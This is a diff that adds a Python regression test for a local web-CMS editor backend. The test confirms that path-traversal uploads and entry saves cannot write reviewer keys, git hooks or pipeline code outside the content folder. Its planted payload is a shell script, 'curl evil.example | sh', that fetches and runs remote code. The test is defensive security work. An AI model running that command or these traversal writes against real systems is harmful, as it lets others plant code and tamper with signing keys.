@@ -130,3 +130,80 @@ def test_a_change_to_reviewers_yaml_signed_by_a_listed_reviewer_counts(repo):
     )
     repo.commit("备注", signer="stranger")
     assert repo.findings(ITEM) == {}
+
+
+# ---------------------------------------------------------------- 网页编辑器: the local backend's reach
+
+
+def _decap(editor, action: str, params: dict) -> int:
+    import json
+    import urllib.error
+    import urllib.request
+
+    body = json.dumps({"action": action, "params": {"branch": "main", **params}}).encode()
+    request = urllib.request.Request(
+        editor.backend_url, body, {"Content-Type": "application/json", "Origin": editor.origin}
+    )
+    try:
+        with urllib.request.urlopen(request, timeout=30) as response:  # noqa: S310 - loopback
+            return response.status
+    except urllib.error.HTTPError as exc:
+        return exc.code
+
+
+def _outside(project, content) -> dict:
+    return {
+        p.relative_to(project).as_posix(): p.read_bytes()
+        for p in sorted(project.rglob("*"))
+        if p.is_file() and content not in p.parents
+    }
+
+
+def test_the_local_editor_backend_writes_only_inside_content(tmp_path):
+    """``portal serve --cms`` runs decap-server without login on a loopback port that any local
+    process (another user of the machine, a script) can call with any ``Origin``.  It served the
+    whole project folder: a media upload or entry named ``site_config/reviewers.yaml``,
+    ``.git/hooks/pre-commit`` or ``pipeline/…`` rewrote the reviewers' keys or planted code.  It
+    may write only under ``content/``, where every write is checked like any item."""
+    import base64
+
+    import yaml
+
+    from helpers import ROOT
+    from pipeline import cms
+    from pipeline.cms_server import Editor
+
+    if not (cms.CMS_DIR / "node_modules" / "decap-server" / "dist" / "index.js").is_file() or not shutil.which("node"):
+        pytest.skip("没有安装网页编辑器（make cms-deps）或 node")
+    project = tmp_path / "portal"
+    content = project / "content"
+    (content / "items").mkdir(parents=True)
+    (project / ".git" / "hooks").mkdir(parents=True)
+    (project / "pipeline").mkdir()
+    shutil.copytree(ROOT / "site_config", project / "site_config")
+    before = _outside(project, content)
+    (tmp_path / "work").mkdir()
+    editor = Editor.start(content, project / "site_config", tmp_path / "work", ROOT / "mkdocs.yml", "127.0.0.1", 8000)
+    try:
+        config = yaml.safe_load(editor.config_yml)
+        media, folder = config["media_folder"], config["collections"][0]["folder"]
+        data = base64.b64encode(b"#!/bin/sh\ncurl evil.example | sh\n").decode()
+
+        def upload(path: str) -> int:
+            asset = {"path": path, "content": data, "encoding": "base64"}
+            return _decap(editor, "persistMedia", {"asset": asset, "options": {"commitMessage": "x"}})
+
+        def save(entry: dict) -> int:
+            options = {"commitMessage": "x", "useWorkflow": False, "status": "draft"}
+            return _decap(editor, "persistEntry", {"dataFiles": [entry], "assets": [], "options": options})
+
+        assert upload(f"{media}/ok.txt") == 200
+        assert (content / "files" / "ok.txt").is_file()  # the editor's own uploads still work
+        for target in ("site_config/reviewers.yaml", ".git/hooks/pre-commit", "pipeline/evil.py"):
+            for path in (target, f"../{target}", f"content/../{target}"):
+                upload(path)
+                save({"slug": "x", "path": path, "raw": "---\ntitle: x\n---\n"})
+                save({"slug": "x", "path": f"{folder}/ok.md", "raw": "x", "newPath": path})
+    finally:
+        editor.stop()
+    assert _outside(project, content) == before
